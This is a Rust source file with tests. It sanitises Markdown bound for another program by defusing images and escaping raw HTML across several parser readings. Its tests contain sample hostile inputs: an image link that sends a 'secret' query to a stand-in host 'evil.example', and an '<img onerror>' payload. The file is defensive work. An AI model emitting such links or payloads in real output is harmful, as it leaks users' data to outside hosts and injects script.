//! Markdown that is read elsewhere: in a file, in another program.

use std::{borrow::Cow, ops::Range};

use pulldown_cmark::{BrokenLink, CowStr, Event, Options, Parser, RefDefs, Tag};

/// How often a text is read anew before all of it that could be markup is taken for text.
const READINGS: usize = 4;

/// How a text is read: who does may know no tables, in which code begins and ends elsewhere, or footnotes, below which what is
/// indented is code to others.
pub(super) fn readers() -> [Options; 3] {
    [Options::empty(), super::options(), super::options() | Options::ENABLE_FOOTNOTES]
}

/// What the rest of a text defines, of which a piece is read.
#[derive(Clone, Copy, Default)]
pub(super) struct Elsewhere<'a> {
    /// The links, to each of the readers.
    pub(super) links: &'a [Known<'a>],
    /// The footnotes.
    pub(super) notes: Option<Known<'a>>,
}

/// Labels that are defined.
#[derive(Clone, Copy)]
pub(super) struct Known<'a> {
    /// Labels.
    pub(super) labels: &'a RefDefs<'a>,
    /// Numbers, ascending: each of them is a label, with the sign before it.
    pub(super) numbers: &'a [u32],
    /// The sign.
    pub(super) sign: &'static str,
}

impl Known<'_> {
    /// Whether something has this label.
    pub(super) fn define(&self, label: &str) -> bool {
        let number = label.strip_prefix(self.sign).and_then(|text| {
            // No other way to write it is the same label.
            text.parse::<u32>().ok().filter(|number| number.to_string() == text)
        });
        number.is_some_and(|number| self.numbers.binary_search(&number).is_ok()) || self.labels.get(label).is_some()
    }
}

impl Elsewhere<'_> {
    /// A piece with the footnotes behind it that it refers to: with them, the same brackets mean something else.
    fn with_notes<'p>(&self, piece: &'p str) -> Cow<'p, str> {
        let Some(notes) = self.notes else { return Cow::Borrowed(piece) };
        let labels = piece.split("[^").skip(1).filter_map(|begun| begun.split_once(']')).map(|(label, _)| label);
        let defined: String = labels
            .filter(|label| !label.contains(['\r', '\n']))
            .map(|label| label.split_ascii_whitespace().collect::<Vec<_>>().join(" "))
            .filter(|label| notes.define(label))
            .map(|label| format!("\n\n[^{label}]: x"))
            .collect();
        if defined.is_empty() { Cow::Borrowed(piece) } else { Cow::Owned(format!("{piece}{defined}")) }
    }
}

/// The same text without what a reader would load by itself or take for markup: a picture becomes a link, whose address leads
/// nowhere until somebody follows it, and raw HTML becomes text. Code stays as it is.
///
/// What was raw HTML is Markdown from then on, and may hold a picture or the end of some code: the text is read again until
/// nothing is found any more.
pub fn quiet(markdown: &str) -> String {
    quiet_beside(markdown, Elsewhere::default())
}

/// The same of a piece of a text.
pub(super) fn quiet_beside(piece: &str, elsewhere: Elsewhere<'_>) -> String {
    let mut text = piece.to_owned();
    for _ in 0..READINGS {
        match quieter(&text, elsewhere) {
            Some(quieter) => text = quieter,
            None => return text,
        }
    }
    flat(&text)
}

/// All of a text that could be markup, or mean something to what comes after it, taken for text.
pub(super) fn flat(markdown: &str) -> String {
    let text = markdown.replace('<', "&lt;").replace("![", "&#33;[").replace("]:", "]&#58;");
    text.replace("```", "&#96;&#96;&#96;").replace("~~~", "&#126;&#126;&#126;")
}

/// The text without the pictures and the raw HTML that one reading finds; nothing where it finds none.
fn quieter(markdown: &str, elsewhere: Elsewhere<'_>) -> Option<String> {
    let mut pictures: Vec<usize> = Vec::new();
    let mut tags: Vec<Range<usize>> = Vec::new();
    for (reader, options) in readers().into_iter().enumerate() {
        let links = elsewhere.links.get(reader).copied();
        let defined = |link: BrokenLink<'_>| {
            let is_defined = links.is_some_and(|links| links.define(&link.reference));
            is_defined.then_some((CowStr::Borrowed(""), CowStr::Borrowed("")))
        };
        let knows_notes = options.contains(Options::ENABLE_FOOTNOTES);
        let text = if knows_notes { elsewhere.with_notes(markdown) } else { Cow::Borrowed(markdown) };
        let read = Parser::new_with_broken_link_callback(&text, options, Some(defined));
        for (event, range) in read.into_offset_iter() {
            match event {
                Event::Start(Tag::Image { .. }) => pictures.push(range.start),
                Event::Html(_) | Event::InlineHtml(_) => tags.push(range),
                _ => {}
            }
        }
    }
    if pictures.is_empty() && tags.is_empty() {
        return None;
    }
    pictures.sort_unstable();
    pictures.dedup();
    tags.sort_unstable_by_key(|range| range.start);
    let (mut pictures, mut tags) = (pictures.into_iter().peekable(), tags.into_iter().peekable());
    let mut text = String::with_capacity(markdown.len() + 64);
    for (at, character) in markdown.char_indices() {
        while tags.next_if(|range| range.end <= at).is_some() {}
        let is_picture = pictures.next_if_eq(&at).is_some();
        match character {
            '<' if tags.peek().is_some_and(|range| range.contains(&at)) => text.push_str("&lt;"),
            '!' if is_picture => text.push_str("\\!"),
            other => text.push(other),
        }
    }
    Some(text)
}

#[cfg(test)]
mod tests {
    use super::quiet;

    #[test]
    fn pictures_and_raw_html_load_nothing() {
        for (given, expected) in [
            (
                "See ![a map](https://evil.example/?q=secret) here.",
                "See \\![a map](https://evil.example/?q=secret) here.",
            ),
            ("![a][1]\n\n[1]: https://evil.example/a.png\n", "\\![a][1]\n\n[1]: https://evil.example/a.png\n"),
            ("An <img src=x onerror=y> inside.", "An &lt;img src=x onerror=y> inside."),
            ("<div>\n<img src=x>\n</div>\n", "&lt;div>\n&lt;img src=x>\n&lt;/div>\n"),
            // What comes to light behind them.
            ("<div>\n![a](https://evil.example)\n</div>\n", "&lt;div>\n\\![a](https://evil.example)\n&lt;/div>\n"),
            ("[^a]: b\n\n    <img src=x>\n", "[^a]: b\n\n    &lt;img src=x>\n"),
            ("|`|`<img src=x>`|\n|---|---|\n", "|`|`&lt;img src=x>`|\n|---|---|\n"),
            ("<b title=\"`\"> `<img src=x>`", "&lt;b title=\"`\"> `&lt;img src=x>`"),
        ] {
            assert_eq!(quiet(given), expected);
        }
    }

    #[test]
    fn everything_else_stays_as_it_is() {
        for text in [
            "Done! [1] and `![a](b) <img>`, 1 < 2.",
            "```html\n<img src=x>\n![a](b)\n```",
            "- a\n- *b*\n\n> [c](https://example.org)",
            "",
        ] {
            assert_eq!(quiet(text), text);
        }
    }
}
